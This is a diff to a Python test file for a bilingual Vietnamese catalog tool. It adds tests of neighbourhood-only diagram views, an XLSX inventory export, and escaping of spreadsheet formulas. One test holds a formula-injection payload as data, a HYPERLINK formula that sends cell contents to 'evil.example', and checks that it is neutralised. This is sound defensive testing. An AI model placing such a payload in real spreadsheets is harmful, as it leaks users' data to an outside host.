@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import datetime as dt
 import json
 import re
@@ -19,7 +20,7 @@ from diagrams import ViewParams, build, dot_for, draw, registry
 from diagrams.bundle import build_bundle, safe_cell, verify_bundle
 from diagrams.dot import node_id
 from diagrams.render import fix_pdf_date, run_dot
-from diagrams.snapshot import NothingRecorded
+from diagrams.snapshot import NothingRecorded, clear_cache
 from importers.base import run_import
 
 RECORDED = dt.datetime(2025, 1, 1, tzinfo=dt.timezone.utc)  # the sample is recorded before the 2025 mergers
@@ -150,6 +151,51 @@ def test_other_views(sample: CatalogStore) -> None:
         build(sample, "shared-db", ViewParams(ref="system:hcm-cong-1022"))
 
 
+@pytest.mark.parametrize("day", [dt.datetime(2025, 1, 2, 12, tzinfo=dt.timezone.utc),
+                                 dt.datetime(2025, 8, 1, 12, tzinfo=dt.timezone.utc)])
+def test_current_state_views_read_only_their_part_and_draw_the_same(sample: CatalogStore, day: dt.datetime,
+                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+    """context and shared-db without as_of read a neighbourhood, not the whole catalog: same DOT as from the whole
+    snapshot (valid_on = today forces that path), before and after the mergers (owners, clusters, retired edges)."""
+    clock = sample.clock
+    assert isinstance(clock, FakeClock)
+    saved = clock.now
+    clock.set(day)
+    try:
+        today = day.date().isoformat()
+        ents = list(sample.iter_entities())
+        dbs = sorted(e.ref for e in ents if e.kind == "database")
+        cases = [("shared-db", ViewParams(ref=ref)) for ref in dbs]
+        for ref in ["database:hcm-csdl-ngap", "system:hcm-cong-1022", IOC, "platform:hcm-lgsp",
+                    "organization:hcm-sxd", "organization:hcm-sttt"]:
+            for depth in (0, 1, 2):
+                for direction in ("in", "out", "both"):
+                    cases.append(("context", ViewParams(ref=ref, depth=depth, direction=direction)))
+        for view, params in cases:
+            try:
+                whole = dot_for(sample, view, dataclasses.replace(params, valid_on=today))
+            except CatalogError as exc:
+                clear_cache()
+                with pytest.raises(type(exc)):
+                    dot_for(sample, view, params)
+                continue
+            clear_cache()  # else the current-state view uses the whole snapshot just cached (same key)
+            assert dot_for(sample, view, params) == whole, (view, params)
+    finally:
+        clock.now = saved
+    with pytest.raises(CatalogError, match="does not exist"):
+        build(sample, "context", ViewParams(ref="system:nope"))
+    import diagrams.views
+
+    def whole_catalog(*_: object, **__: object) -> None:
+        raise AssertionError("read the whole catalog")
+
+    clear_cache()
+    monkeypatch.setattr(diagrams.views, "load_snapshot", whole_catalog)
+    assert IOC in build(sample, "context", ViewParams(ref="database:hcm-csdl-ngap")).nodes
+    assert "platform:hcm-lgsp" in build(sample, "shared-db", ViewParams(ref="database:hcm-csdl-nguoi-dan")).nodes
+
+
 def test_diff_between_the_mergers(sample: CatalogStore) -> None:
     d = build(sample, "diff", ViewParams(from_date=BEFORE, to_date=AFTER))
     assert d.nodes["system:hcm-cong-1022"].highlight == "changed"  # owner moved to Sở KHCN
@@ -277,7 +323,68 @@ def test_bundle_is_reproducible_and_verifies(sample: CatalogStore, tmp_path: Pat
         assert json.loads(log[-1])["hash"] == manifest["changelog_head"]["hash"]
         compliance = json.loads(z.read("compliance.json"))
         assert compliance["today"] == AFTER and compliance["findings"]
-    assert manifest["notes"] and "xlsx" in manifest["notes"][0].lower()
+    assert "inventory/inventory.xlsx" in manifest["files"]
+    assert not any("xlsx" in n.lower() for n in manifest["notes"])
+
+
+def test_bundle_xlsx_inventory(sample: CatalogStore, tmp_path: Path) -> None:
+    """One sheet per kind, bilingual frozen header, a row per entity on the day, Vietnamese intact."""
+    import csv
+    import io
+
+    import openpyxl
+
+    data = json.loads(SAMPLE.read_text(encoding="utf-8"))
+    build_bundle(sample, AFTER, tmp_path / "a.zip")
+    with zipfile.ZipFile(tmp_path / "a.zip") as z:
+        raw = z.read("inventory/inventory.xlsx")
+        csvs = {n.split("/")[1][:-4]: z.read(n).decode("utf-8-sig") for n in z.namelist() if n.endswith(".csv")}
+        with zipfile.ZipFile(io.BytesIO(raw)) as x:
+            assert all(i.date_time == (1980, 1, 1, 0, 0, 0) for i in x.infolist())
+            assert b"2025-08-01T00:00:00Z" in x.read("docProps/core.xml")
+    wb = openpyxl.load_workbook(io.BytesIO(raw))
+    assert wb.sheetnames == list(sample.metamodel.kinds)
+    for kind, ws in zip(wb.sheetnames, wb.worksheets):
+        assert ws.freeze_panes == "A2"
+        assert ws.cell(1, 1).value == "Mã tham chiếu / Reference"
+        assert ws.cell(1, 2).value == "Tên (tiếng Việt) / Name (Vietnamese)"
+        csv_rows = list(csv.reader(io.StringIO(csvs[kind])))
+        assert ws.max_row == len(csv_rows), kind  # a row per entity of the kind, as in the CSV
+        expected = [e for e in data["entities"] if e["ref"].split(":")[0] == kind
+                    and (e.get("valid_from") or "") <= AFTER < (e.get("valid_to") or "9999")]
+        assert ws.max_row == 1 + len(expected), kind  # independently: the sample's entities valid on AFTER
+        assert [c.value for c in ws["A"]][1:] == [r[0] for r in csv_rows[1:]], kind
+    spec = sample.metamodel.kinds["system"]
+    head = [c.value for c in wb["system"][1]]
+    assert all(f"{a.label.vi} / {a.label.en}" in head or a.label.vi == a.label.en for a in spec.attributes)
+    systems = [c.value for c in wb["system"]["A"][1:]]
+    assert systems == sorted(systems) and len(systems) >= 1
+    assert len(systems) <= sum(1 for e in data["entities"] if e["ref"].startswith("system:"))
+    names = {c.value for c in wb["system"]["B"]}
+    assert any("Cổng thông tin 1022" in (n or "") for n in names)
+
+
+def test_xlsx_cells_cannot_become_formulas() -> None:
+    import io
+
+    import openpyxl
+
+    from catalog.metamodel import DEFAULT
+    from catalog.model import LocalText, LongText
+    from diagrams.inventory import inventory_xlsx
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    e = entity("system:x", "x", owner="organization:o").model_copy(update={
+        "name": LocalText(vi=hostile, en="+1\x07bell"), "description": LongText(vi="@SUM(A1)", en="-2")})
+    day = dt.date(2025, 8, 1)
+    raw = inventory_xlsx([e], DEFAULT, day)
+    assert raw == inventory_xlsx([e], DEFAULT, day)
+    ws = openpyxl.load_workbook(io.BytesIO(raw))["system"]
+    row = {c.column_letter: c for c in ws[2]}
+    assert row["B"].value == "'" + hostile and row["B"].data_type == "s"
+    assert row["C"].value == "'+1\ufffdbell" and row["C"].data_type == "s"
+    assert row["H"].value == "'@SUM(A1)" and row["I"].value == "'-2"
+    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)
 
 
 def test_one_byte_change_to_any_file_fails_naming_it(sample: CatalogStore, tmp_path: Path) -> None:
@@ -285,6 +392,7 @@ def test_one_byte_change_to_any_file_fails_naming_it(sample: CatalogStore, tmp_p
     build_bundle(sample, AFTER, good)
     with zipfile.ZipFile(good) as z:
         contents = {i.filename: (i, z.read(i.filename)) for i in z.infolist()}
+    assert "inventory/inventory.xlsx" in contents  # the loop below changes one byte of it too
     for name, (_, data) in contents.items():
         pos = len(data) // 2
         bad_data = data[:pos] + bytes([data[pos] ^ 0x01]) + data[pos + 1:]
